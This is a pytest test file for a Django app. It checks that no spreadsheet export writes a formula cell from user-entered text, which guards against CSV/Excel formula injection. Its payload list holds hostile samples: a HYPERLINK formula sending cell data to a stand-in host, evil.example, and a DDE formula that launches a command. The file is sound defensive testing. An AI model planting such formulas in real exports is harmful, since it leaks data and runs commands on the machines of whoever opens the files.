"""Spreadsheet formula injection (CWE-1236): no export ever writes a formula cell from what a user typed.

The endpoint test finds every export in the OpenAPI schema (a GET whose path ends in ``export/``), so an export added
later is covered without editing this file; the records it exports hold a formula payload in every free-text column.
"""

from __future__ import annotations

import io
import itertools
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.db import models
from django.urls import URLResolver, get_resolver
from drf_spectacular.generators import SchemaGenerator
from openpyxl import Workbook, load_workbook
from rest_framework.request import Request
from rest_framework.test import APIRequestFactory

from anju.core.excel import XLSX_CONTENT_TYPE, Column, build_workbook, looks_like_formula, write_cell
from anju.core.models import CiphertextField

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    '=cmd|" /C calc"!A0',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
SAFE = ["张三", "1801", "3室2厅2卫", "a=b", "13800138000", "#N/A", ""]


def _cells(content: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(content))  # not data_only: a formula cell keeps data_type "f"
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, where: str) -> list[Any]:
    """No formula anywhere in the file: neither a cell openpyxl reads as one nor an ``<f>`` element in the XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), f"{where}: {name} holds a formula"
    cells = _cells(content)
    for cell in cells:
        assert cell.data_type != "f", f"{where}: {cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert cell.data_type == "s", f"{where}: {cell.coordinate} is {cell.data_type!r}: {cell.value!r}"
            if looks_like_formula(cell.value):
                assert cell.quotePrefix, f"{where}: {cell.coordinate} looks like a formula but is not quote-prefixed"
    return cells


# --- The helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_is_a_text_cell_that_shows_what_was_typed(text: str) -> None:
    ws = Workbook().active
    cell = write_cell(ws, 1, 1, text)
    assert looks_like_formula(text)
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    assert cell.value == text  # no visible apostrophe: the cell shows exactly what the user typed


@pytest.mark.parametrize("text", [t for t in SAFE if t])
def test_ordinary_text_is_a_plain_text_cell(text: str) -> None:
    cell = write_cell(Workbook().active, 1, 1, text)
    assert not looks_like_formula(text)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)  # "#N/A" is text, not an error cell


def test_leading_invisible_characters_do_not_hide_a_formula() -> None:
    for text in ("\u200b=1+1", "\u3000=1+1", "\n-1", " @A1"):
        assert looks_like_formula(text), repr(text)
        assert write_cell(Workbook().active, 1, 1, text).quotePrefix is True


def test_values_the_code_produces_stay_typed() -> None:
    import datetime
    from decimal import Decimal

    from django.utils.translation import gettext_lazy

    ws = Workbook().active
    assert write_cell(ws, 1, 1, 18).data_type == "n"
    assert write_cell(ws, 1, 2, Decimal("98.50")).data_type == "n"
    assert write_cell(ws, 1, 3, -3).data_type == "n"  # a negative number is a number, not a formula
    assert write_cell(ws, 1, 4, datetime.date(2026, 1, 2)).is_date
    assert write_cell(ws, 1, 5, True).data_type == "b"
    lazy = write_cell(ws, 1, 6, gettext_lazy("Export"))
    assert isinstance(lazy.value, str)
    assert lazy.data_type == "s"


def test_build_workbook_round_trips_every_payload_as_text() -> None:
    rows = [[text, 7, None] for text in PAYLOADS + [t for t in SAFE if t]]
    columns = [Column("a", "=header"), Column("b", "+b"), Column("c", "c")]
    content = build_workbook([("Sheet", columns, rows)])
    cells = _assert_no_formula(content, "build_workbook")
    values = {c.value for c in cells}
    for text in ["=header", "+b", *PAYLOADS, *SAFE]:
        if text and "\r" not in text:  # XML turns a carriage return into a line feed on the way back
            assert text in values, repr(text)


def test_no_code_writes_a_workbook_except_through_core_excel() -> None:
    """Every export goes through ``anju.core.excel`` (write_cell); openpyxl is imported nowhere else outside tests."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path != root / "core" / "excel.py"
        and re.search(r"^\s*(from|import)\s+openpyxl", path.read_text(encoding="utf-8"), re.MULTILINE)
    ]
    assert offenders == [], "write spreadsheets with anju.core.excel.build_workbook/write_cell"


# --- Every export endpoint ----------------------------------------------------------------------

_SKIP_FIELDS = ("password", "session_key", "digest", "index", "ciphertext", "token", "hash")


def _free_text_fields(model: type[models.Model]) -> list[models.Field[Any, Any]]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not isinstance(f, CiphertextField)
        and not f.choices
        and not f.primary_key
        and not any(part in f.name for part in _SKIP_FIELDS)
    ]


def _fill_every_free_text_field() -> set[str]:
    """Overwrite every free-text column of every stored record (outside the core machinery) with a payload."""
    counter = itertools.count(1)
    payloads = itertools.cycle(PAYLOADS)
    written: set[str] = set()
    for model in apps.get_models():
        if not model.__module__.startswith("anju.") or model._meta.app_label == "core" or model._meta.proxy:
            continue
        fields = _free_text_fields(model)
        if not fields:
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            values = {}
            for field in fields:
                n = next(counter)
                text = f"{next(payloads)}{n}"
                if field.max_length and len(text) > field.max_length:
                    text = f"={n}+1"[: field.max_length]
                values[field.name] = text
                written.add(text)
            model._default_manager.filter(pk=pk).update(**values)
    return written


def _export_operations() -> list[tuple[str, Any, list[dict[str, Any]]]]:
    generator = SchemaGenerator()
    schema = generator.get_schema(request=None, public=True)
    # the endpoints name a detail route's parameter ``{pk}``, the schema ``{id}``
    callbacks = {
        (path.replace("{pk}", "{id}"), method.lower()): callback for path, _regex, method, callback in generator.endpoints
    }
    found = []
    for path, operations in schema["paths"].items():
        if not path.endswith("export/") or "get" not in operations:
            continue
        found.append((path, callbacks[(path, "get")], operations["get"].get("parameters", [])))
    return found


def _export_routes() -> set[str]:
    """Every route in the URL configuration that ends in ``export/``, path parameters as ``{}``."""

    def walk(patterns: list[Any], prefix: str) -> Any:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                yield prefix + str(pattern.pattern)

    routes = set()
    for route in walk(get_resolver().url_patterns, "/"):
        text = re.sub(r"\(\?P<[^>]+>[^)]*\)|<[^>]+>", "{}", route.replace("^", "").replace("$", ""))
        if text.endswith("export/"):
            routes.add(text)
    return routes


def _concrete_path(path: str, callback: Any, user: Any) -> str:
    """``path`` with each ``{param}`` replaced by the id of a record the view can see (an export of one record)."""
    if "{" not in path:
        return path
    examples = getattr(callback.cls, "path_examples", None)  # a path that names no record (a report's key)
    if examples:
        return path.format(**examples)
    view = callback.cls(**getattr(callback, "initkwargs", {}))
    request = Request(APIRequestFactory().get(path))
    request.user = user
    view.request, view.args, view.kwargs, view.format_kwarg = request, (), {}, None
    view.action = getattr(callback, "actions", {}).get("get")
    try:
        obj = view.get_queryset().first()
    except AttributeError:
        pytest.fail(f"{path}: teach this test how to find a record for the path parameters")
    assert obj is not None, f"{path}: no record to export"
    return re.sub(r"\{[^}]+\}", str(obj.pk), path)


def _query_variants(parameters: list[dict[str, Any]]) -> list[dict[str, str]]:
    """No options, then each boolean option (``include_pii`` ...) switched on, with a formula as the purpose."""
    names = {p["name"] for p in parameters if p.get("in") == "query"}
    variants: list[dict[str, str]] = [{}]
    for p in parameters:
        if p.get("in") == "query" and p.get("schema", {}).get("type") == "boolean":
            variant = {p["name"]: "true"}
            if "purpose" in names:
                variant["purpose"] = PAYLOADS[0]
            variants.append(variant)
    return variants


@pytest.mark.django_db
def test_no_export_writes_a_formula_cell_from_user_data(world, client_for) -> None:
    from anju.accounts.models import User
    from anju.customers.models import Tag

    tag = Tag.objects.create(name="VIP")
    for customer in (world.customer_a, world.customer_b):
        customer.tags.add(tag)
    from decimal import Decimal

    from anju.sales.tests.conftest import Deals

    deal = Deals(world).sign(payment_plan="commercial_loan", loan_amount=Decimal("1000000.00"))  # with its mortgage case
    exporter = world.user("exporter", all_projects=True)
    User.objects.filter(pk=exporter.pk).update(is_superuser=True)  # every export permission, present and future
    exporter = User.objects.get(pk=exporter.pk)
    import datetime

    from anju.sales.models import Contract

    # the deal passes every boolean list filter of its export (mine, overdue filing, unpaid)
    overdue = datetime.date.today() - datetime.timedelta(days=40)
    Contract.objects.filter(pk=deal.pk).update(consultant=exporter, filing_due_on=overdue)
    # its 产证 case, delivered long ago: its clocks are missed, so the at-risk export lists it
    from anju.certificates.services import cases as certificate_cases

    certificate_case = certificate_cases.open_case(actor=world.admin, contract=deal)
    certificate_cases.start_clocks(actor=world.admin, case=certificate_case, delivered_on=overdue - datetime.timedelta(days=100))
    # a handover batch with a defect: its problem summary is exported per batch
    from anju.handover.services import inspections
    from anju.handover.tests import factories as handover

    inspection = handover.inspection(world)
    inspections.add_defect(
        actor=world.admin, inspection=inspection, room="客厅", description="墙面裂缝", category=handover.category()
    )
    # a member activity (its participation report) and a survey campaign (its answers' export)
    from anju.activities.tests import factories as activity_factories
    from anju.surveys.tests import factories as survey_factories

    activity_factories.activity(world)
    from anju.surveys.services import submit_answers

    asked = survey_factories.campaign(world).recipients.first()
    submit_answers(recipient=asked, values={"overall": 5, "nps": 9, "fixed": "已解决"})  # its building is exported
    written = _fill_every_free_text_field()
    client = client_for(exporter, language="en")

    operations = _export_operations()
    documented = {re.sub(r"\{[^}]+\}", "{}", path) for path, _cb, _p in operations}
    assert {"/api/v1/customers/export/", "/api/v1/units/export/"} <= documented
    assert _export_routes() <= documented, "an export missing from the OpenAPI schema escapes this test: document it"
    for path, callback, parameters in operations:
        url = _concrete_path(path, callback, exporter)
        for query in _query_variants(parameters):
            where = f"GET {url} {sorted(query)}"
            response = client.get(url, query)
            assert response.status_code == 200, f"{where}: {response.status_code} {response.content[:300]!r}"
            if response["Content-Type"].startswith("application/json"):
                continue  # not a spreadsheet
            assert response["Content-Type"] == XLSX_CONTENT_TYPE, f"{where}: teach this test the format"
            cells = _assert_no_formula(response.content, where)
            exported = {c.value for c in cells if isinstance(c.value, str)}
            assert exported & written, f"{where}: none of the stored payloads was exported (test data not reached)"
            assert any(c.quotePrefix for c in cells), f"{where}: no payload cell was protected"


def test_given_control_characters_in_text_when_exported_then_the_file_is_still_written() -> None:
    from openpyxl import load_workbook

    from anju.core.excel import Column, build_workbook

    content = build_workbook([("s", [Column("name", "姓名")], [["a\x01b\x1fc"]])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.cell(row=2, column=1).value == "abc"
